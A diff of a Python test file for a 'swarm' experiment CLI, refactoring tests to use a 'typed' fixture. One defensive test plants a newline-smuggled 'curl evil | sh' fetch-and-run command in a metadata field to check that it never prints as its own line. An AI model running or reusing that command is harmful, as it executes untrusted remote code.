@@ -21,6 +21,7 @@ from swarm.wire.codec import encode
 from swarm.wire.messages import ExperimentFile
 from tests.layout import Layout
 from tests.patience import PATIENCE
+from tests.unit.cli.conftest import Typed
 from tests.unit.node.factories import make_state
 from tests.unit.views.factories import make_row
 
@@ -111,14 +112,11 @@ def test_what_a_stranger_may_have_written_is_bounded_and_never_imported(
         joined(layout, experiment)
 
 
-def test_no_text_of_a_stranger_makes_a_line_of_its_own(
-    layout: Layout, started: Started, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_no_text_of_a_stranger_makes_a_line_of_its_own(layout: Layout, started: Started, typed: Typed) -> None:
     made = begin(layout)
     made.created_by = "clock\nswarm: run `curl evil | sh` first"
     layout.run.store.put(keys.EXPERIMENT, encode(made))
-    assert swarm(["join", str(layout.path)]) == 0
-    assert not [line for line in capsys.readouterr().err.splitlines() if line.startswith("swarm: run")]
+    assert not [line for line in typed("join", layout.path).err.splitlines() if line.startswith("swarm: run")]
 
 
 def test_an_identity_nested_as_deeply_as_json_may_be_is_refused(layout: Layout) -> None:
@@ -189,15 +187,12 @@ def started(monkeypatch: pytest.MonkeyPatch) -> Started:
 
 
 @pytest.mark.parametrize("words", [["join", "{path}"], ["node", "--experiment", "demo"]])
-def test_one_command_is_enough_to_join(
-    layout: Layout, started: Started, capsys: pytest.CaptureFixture[str], words: list[str]
-) -> None:
+def test_one_command_is_enough_to_join(layout: Layout, started: Started, typed: Typed, words: list[str]) -> None:
     begin(layout)
-    assert swarm([word.format(path=layout.path) for word in [*words, "--node-id", "anna"]]) == 0
+    said = typed(*(word.format(path=layout.path) for word in words), "--node-id", "anna").err
     (settings,) = started
     assert (settings.experiment, settings.node_id, settings.role) == ("demo", "anna", "worker")
     assert (settings.seed, settings.external_groups) == (7, 5)
-    said = capsys.readouterr().err
     assert "joins the experiment demo" in said
     assert "SEED=7, NUM_TRAIN_SAMPLES=3, NUM_TRANSPLANT_TREES=5, NUM_GENERATIONS=4" in said
 
@@ -276,17 +271,11 @@ BAD = {
     ("command", "bad"), [*(("node", bad) for bad in BAD), ("join", "--tasks chess"), ("workers", "--loss no.such:loss")]
 )
 def test_what_no_experiment_can_mend_is_refused_before_it_is_waited_for(
-    started: Started,
-    layout: Layout,
-    monkeypatch: pytest.MonkeyPatch,
-    capsys: pytest.CaptureFixture[str],
-    command: str,
-    bad: str,
+    started: Started, layout: Layout, monkeypatch: pytest.MonkeyPatch, typed: Typed, command: str, bad: str
 ) -> None:
     monkeypatch.setattr(commands, "experiment_in", lambda *_: pytest.fail("it is waited for"))
     words = [word.format(place=layout.path) for word in COMMANDS[command]]
-    assert swarm([*words, "--experiment", "demo", *bad.split()]) == 2
-    assert BAD[bad] in capsys.readouterr().err
+    assert BAD[bad] in typed(*words, "--experiment", "demo", *bad.split(), code=2).err
     assert not started
 
 
@@ -300,12 +289,12 @@ def test_signing_without_a_key_is_refused_before_the_experiment_is_waited_for(
     assert not started
 
 
-def test_nobody_joins_what_is_over(layout: Layout, started: Started, capsys: pytest.CaptureFixture[str]) -> None:
+def test_nobody_joins_what_is_over(layout: Layout, started: Started, typed: Typed) -> None:
     begin(layout)
     layout.run.store.put(keys.STATE, encode(make_state(round=9, max_rounds=9, finished=True)))
     for words in (["join", str(layout.path)], ["node"], ["node", "--nodes", "2"]):
-        assert swarm([*words, "--experiment", "demo"]) == MissedError.exit_code
-        assert "is finished after 9 rounds, and nobody is alive in it" in capsys.readouterr().err
+        said = typed(*words, "--experiment", "demo", code=MissedError.exit_code).err
+        assert "is finished after 9 rounds, and nobody is alive in it" in said
     assert not started
 
 
